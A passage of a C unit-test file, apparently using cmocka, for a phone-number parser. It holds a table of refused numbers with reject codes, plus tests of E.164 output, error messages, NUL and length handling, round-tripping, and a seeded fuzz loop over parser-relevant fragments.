	{"+9165551234", NULL, "country_mismatch", "India has longer numbers"},
	{"+2025551234", NULL, "country_mismatch", "Cairo has longer numbers"},
	{"+323-555-1234", NULL, "country_mismatch", "fits Belgium, but is grouped as in the US"},
	{"+2105551234", NULL, "country_mismatch", "San Antonio, not a country"},
	{"+49 12", NULL, "short_code", "much too short for Germany"},
	{"+33 1 23 45 67", NULL, "invalid_for_country", "short for France"},
	{"+33 1 23 45 67 890", NULL, "invalid_for_country", "long for France"},
	{"+65 0123 4567", NULL, "invalid_for_country", "no number in Singapore starts with 0"},
	{"+47 123 456 789", NULL, "invalid_for_country", "long for Norway"},
	{"020 7946 095", "GB", "invalid_for_country", "short for London"},
	/* area code */
	{"383-1234", NULL, "no_area_code", "seven digits"},
	{"1-383-1234", NULL, "no_area_code", "1 and seven digits"},
	{"310-1234", "CA", "no_area_code", "Canada's number without area code"},
	{"+1 383 1234", NULL, "no_area_code", "+1 and seven digits"},
	{"383-1234", "JM", "no_area_code", "Jamaica has two codes"},
	{"123-456-7890", NULL, "npa_invalid", "starts with 1"},
	{"1234567890", NULL, "npa_invalid", "starts with 1"},
	{"012-345-6789", NULL, "npa_invalid", "starts with 0"},
	{"000-000-0000", NULL, "npa_invalid", "zeros"},
	{"+1 023 383 1234", NULL, "npa_invalid", "starts with 0 after +1"},
	{"02079460958", NULL, "npa_invalid", "a British number without saying so"},
	{"911-555-1234", NULL, "npa_n11", "the contract's example"},
	{"211-383-1234", NULL, "npa_n11", "a service code"},
	{"1-411-383-1234", NULL, "npa_n11", "a service code"},
	{"555-383-1234", NULL, "npa_555", "directory assistance"},
	{"555-555-5555", NULL, "npa_555", "five times ten"},
	{"290-383-1234", NULL, "npa_expansion", "N9X"},
	{"999-999-9999", NULL, "npa_expansion", "nines"},
	{"370-383-1234", NULL, "npa_reserved", "37X"},
	{"960-383-1234", NULL, "npa_reserved", "96X"},
	{"232-383-1234", NULL, "npa_reserved", "reserved"},
	{"535-383-1234", NULL, "npa_reserved", "for personal numbers"},
	{"881-383-1234", NULL, "npa_reserved", "for toll-free numbers"},
	{"988-383-1234", NULL, "npa_reserved", "the crisis line"},
	{"950-383-1234", NULL, "npa_reserved", "carrier access"},
	{"222-222-2222", NULL, "npa_unassigned", "twos"},
	{"221-383-1234", NULL, "npa_unassigned", "not assigned"},
	{"456-383-1234", NULL, "npa_unassigned", "given back"},
	{"273-383-1234", NULL, "npa_not_in_service", "opens in 2027, libraries take it already"},
	{"565-383-1234", NULL, "npa_not_in_service", "opens in 2027"},
	{"761-383-1234", NULL, "npa_not_in_service", "no date yet"},
	{"822-383-1234", NULL, "npa_not_in_service", "toll-free, no date yet"},
	{"543-383-1234", NULL, "npa_not_in_service", "personal, no date yet"},
	/* exchange */
	{"415-023-4567", NULL, "nxx_invalid", "starts with 0"},
	{"415-123-4567", NULL, "nxx_invalid", "starts with 1"},
	{"800-000-0000", NULL, "nxx_invalid", "zeros"},
	{"415-911-1234", NULL, "nxx_n11", "libraries take it"},
	{"415-211-1234", NULL, "nxx_n11", "a service code"},
	{"900-411-1234", NULL, "nxx_n11", "premium too"},
};
/* clang-format on */

static bool parse(
	const char *typed, const char *country, struct phone *phone, struct phone_refusal *refusal)
{
	return phone_parse(typed, strlen(typed), country, phone, refusal);
}

static void each_number_is_read_as_meant(void **state)
{
	(void)state;
	size_t wrong = 0;
	for (size_t i = 0; i < COUNT_OF(accepted); i++) {
		const struct accepted *a = &accepted[i];
		struct phone p = {.place = ""};
		struct phone_refusal r = {.code = PHONE_OK};
		bool is_right = parse(a->typed, a->country, &p, &r) && text_is(p.e164, a->e164) &&
				text_is(p.extension, a->extension) && text_is(p.country, a->iso) &&
				p.kind == a->kind && p.flags == a->flags;
		if (is_right)
			continue;
		wrong++;
		print_error("\"%s\" (%s): got %s x%s %s %s flags %x, %s %s\n", a->typed, a->why,
			p.e164, p.extension, p.country, kind_wire(p.kind), p.flags,
			phone_reject_wire(r.code), r.code != PHONE_OK ? r.message : "");
	}
	assert_int_equal(wrong, 0);
}

static void each_refusal_has_the_right_code(void **state)
{
	(void)state;
	size_t wrong = 0;
	for (size_t i = 0; i < COUNT_OF(refused); i++) {
		const struct refused *a = &refused[i];
		struct phone p;
		struct phone_refusal r = {.code = PHONE_OK};
		bool is_accepted = parse(a->typed, a->country, &p, &r);
		if (!is_accepted && text_is(phone_reject_wire(r.code), a->code))
			continue;
		wrong++;
		print_error("\"%s\" (%s): %s instead of %s\n", a->typed, a->why,
			is_accepted ? p.e164 : phone_reject_wire(r.code), a->code);
	}
	assert_int_equal(wrong, 0);
}

static void each_refusal_says_what_is_wrong_and_what_to_do(void **state)
{
	(void)state;
	for (size_t i = 0; i < COUNT_OF(refused); i++) {
		struct phone p;
		struct phone_refusal r;
		assert_false(parse(refused[i].typed, refused[i].country, &p, &r));
		size_t n = strlen(r.message);
		assert_true(n > 10 && n < sizeof(r.message) - 1 && r.message[n - 1] == '.');
		assert_true(strlen(r.hint) > 10 && strlen(r.hint) < sizeof(r.hint) - 1);
	}
}

static void the_messages_name_what_was_wrong(void **state)
{
	(void)state;
	struct phone p;
	struct phone_refusal r;
	assert_false(parse("911-555-1234", NULL, &p, &r));
	assert_string_equal(r.message, "911 is a service code, not an area code.");
	assert_false(parse("+4155551234", NULL, &p, &r));
	assert_string_equal(r.hint, "Did you mean +14155551234?");
	/* Bogotá's numbers as they were: the country code stands apart. */
	assert_false(parse("+57 1 234 5678", NULL, &p, &r));
	assert_null(strstr(r.hint, "+1"));
	assert_false(parse("44 20 7946 0958", NULL, &p, &r));
	assert_string_equal(
		r.hint, "If this is a number in the United Kingdom, write it as +442079460958.");
	assert_false(parse("+33 1 23 45 67", NULL, &p, &r));
	assert_string_equal(
		r.message, "A number in France that starts with 1 has 9 digits; this has 7.");
	assert_false(parse("273-383-1234", NULL, &p, &r));
	assert_string_equal(r.message, "273 has no numbers before 2027-02-27.");
	assert_false(parse("415 383 12345", NULL, &p, &r));
	assert_string_equal(r.hint, "Check for an extra digit.");
	assert_false(parse("415 383 1234", "XX", &p, &r));
	assert_string_equal(r.message, "No country has the code XX.");
	assert_false(parse("415 383 1234", "Mars", &p, &r));
	assert_string_equal(r.message, "The country given is not a two-letter code.");
	assert_string_equal(r.hint, "Give the country's ISO code, such as US or GB.");
}

static void a_nul_is_refused_wherever_it_stands(void **state)
{
	(void)state;
	static const char text[] = "\0"
				   "4153831234\0";
	struct phone p;
	struct phone_refusal r;
	assert_false(phone_parse(text, 11, NULL, &p, &r));
	assert_int_equal(r.code, PHONE_BAD_CHARS);
	assert_false(phone_parse(text + 1, 11, NULL, &p, &r));
	assert_int_equal(r.code, PHONE_BAD_CHARS);
	assert_true(phone_parse(text + 1, 10, NULL, &p, &r));
}

static void text_of_any_length_is_taken_or_refused(void **state)
{
	(void)state;
	char text[2000];
	struct phone p;
	struct phone_refusal r;
	memset(text, ' ', sizeof(text));
	memcpy(text, "4153831234", 10);
	assert_true(phone_parse(text, 256, NULL, &p, &r));
	assert_false(phone_parse(text, 257, NULL, &p, &r));
	assert_int_equal(r.code, PHONE_TOO_LONG);
	assert_false(phone_parse(NULL, 0, NULL, &p, &r));
	assert_int_equal(r.code, PHONE_EMPTY);
}

static void a_number_reads_the_same_after_it_was_written_as_e164(void **state)
{
	(void)state;
	for (size_t i = 0; i < COUNT_OF(accepted); i++) {
		struct phone p, again;
		struct phone_refusal r;
		assert_true(parse(accepted[i].typed, accepted[i].country, &p, &r));
		assert_true(parse(p.e164, "", &again, &r));
		assert_string_equal(again.e164, p.e164);
		assert_int_equal(again.kind, p.kind);
		assert_string_equal(again.area_code, p.area_code);
	}
}

static void the_place_comes_from_the_area_code(void **state)
{
	(void)state;
	struct phone p;
	struct phone_refusal r;
	assert_true(parse("415-383-1234", NULL, &p, &r));
	assert_string_equal(p.area_code, "415");
	assert_string_equal(p.region, "US-CA");
	assert_string_equal(p.place, "San Francisco");
	assert_true(parse("867-383-1234", NULL, &p, &r));
	assert_string_equal(p.region, ""); /* one of three territories */
	assert_true(parse("800-383-1234", NULL, &p, &r));
	assert_string_equal(p.place, "");
	assert_true(parse("+4930123456", NULL, &p, &r));
	assert_string_equal(p.area_code, "");
}

static void only_area_codes_of_places_are_asked_for(void **state)
{
	(void)state;
	struct phone_refusal r;
	assert_true(phone_check_area_code("415", &r));
	assert_true(phone_check_area_code("416", &r));
	static const struct {
		const char *npa;
		enum phone_reject code;
	} no[] = {{"800", PHONE_NPA_INVALID}, {"911", PHONE_NPA_N11}, {"555", PHONE_NPA_555},
		{"273", PHONE_NPA_NOT_IN_SERVICE}, {"", PHONE_NPA_INVALID},
		{"41", PHONE_NPA_INVALID}, {"4155", PHONE_NPA_INVALID}, {"4a5", PHONE_NPA_INVALID},
		{"115", PHONE_NPA_INVALID}};
	for (size_t i = 0; i < COUNT_OF(no); i++) {
		assert_false(phone_check_area_code(no[i].npa, &r));
		assert_int_equal(r.code, no[i].code);
		assert_true(text_starts(r.hint, "Give the area code of a place, such as 415"));
	}
	assert_false(phone_check_area_code("800", &r));
	assert_non_null(strstr(r.hint, "toll_free"));
}

/* A number of each length that a plan allows, for each first digit. */
static size_t check_plan(const struct country_plan *plan, char first)
{
	size_t count = 0;
	for (int n = 1; n <= 15; n++) {
		char typed[40];
		struct phone p;
		struct phone_refusal r;
		text_format(typed, sizeof(typed), "+%s%c%.*s", plan->calling_code, first, n - 1,
			"27182818284590");
		const char *national = typed + 1 + strlen(plan->calling_code);
		bool is_trunk =
			plan->trunk_prefix[0] != '\0' && text_starts(national, plan->trunk_prefix);
		if (is_trunk || !country_fits(plan, national))
			continue;
		if (parse(typed, NULL, &p, &r))
			assert_string_equal(p.e164, typed);
		else
			assert_int_equal(r.code, PHONE_COUNTRY_MISMATCH);
		count++;
	}
	return count;
}

static void every_length_of_every_plan_makes_e164(void **state)
{
	(void)state;
	size_t count = 0;
	for (size_t i = 0; i < countries_count; i++)
		for (char first = '0'; first <= '9'; first++)
			count += check_plan(&countries_rows[i], first);
	assert_true(count > 1000);
}

/* Pieces that mean something to the parser, thrown together. */
static size_t make_nonsense(char *to, size_t room, unsigned *seed)
{
	static const char *const pieces[] = {"415", "1", "+", "(", ")", "-", " ", ".", "/", "x",
		"ext", ";ext=", ";phone-context=+", "tel:", ",", "#", "*67", "FLOWERS", "800",
		"\u00A0", "\u0664", "\uFF14", "011", "00", "44", "(0)", "=", "&", "\xFF", "\xE2",
		"..", "555-1234", "A", "0", "7", "\u0424", "\U0001F600"};
	size_t n = 0, parts = (size_t)rand_r(seed) % 14;
	while (parts-- > 0) {
		const char *piece = pieces[(size_t)rand_r(seed) % COUNT_OF(pieces)];
		size_t bytes = strlen(piece);
		if (rand_r(seed) % 8 == 0)
			to[n++] = (char)(rand_r(seed) & 0xFF);
		memcpy(to + n, piece, bytes);
		n += bytes;
		must(n + 32 < room);
	}
	return n;
}

static void nonsense_never_becomes_a_number_that_is_none(void **state)
{
	(void)state;
	static const char *const countries[] = {NULL, "", "US", "DE", "MX", "GB", "AU", "??"};
	unsigned seed = 20261122, taken = 0;
	for (size_t i = 0; i < 200000; i++) {
		char text[512];
		struct phone p;
		struct phone_refusal r;
		size_t bytes = make_nonsense(text, sizeof(text), &seed);
		char *exact = must_calloc(1, bytes + 1); /* so that ASan sees one byte too far */
		exact = must_realloc(exact, bytes > 0 ? bytes : 1);
		memcpy(exact, text, bytes);
		const char *country = countries[i % COUNT_OF(countries)];
		if (phone_parse(exact, bytes, country, &p, &r)) {
			taken++;
			assert_true(text_is_e164(p.e164));
			assert_true(p.extension[0] == '\0' || text_is_digits(p.extension));
		} else {
			assert_true(r.code > PHONE_OK && r.code < PHONE_REJECT_COUNT);
		}
		free(exact);
	}
	assert_true(taken > 100); /* or it exercised nothing but refusals */
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		CHECK(each_number_is_read_as_meant),
		CHECK(each_refusal_has_the_right_code),
		CHECK(each_refusal_says_what_is_wrong_and_what_to_do),
		CHECK(the_messages_name_what_was_wrong),
		CHECK(a_nul_is_refused_wherever_it_stands),
		CHECK(text_of_any_length_is_taken_or_refused),
		CHECK(a_number_reads_the_same_after_it_was_written_as_e164),
		CHECK(the_place_comes_from_the_area_code),
		CHECK(only_area_codes_of_places_are_asked_for),
		CHECK(every_length_of_every_plan_makes_e164),
		CHECK(nonsense_never_becomes_a_number_that_is_none),
	};
	return CHECK_MAIN(tests);
}
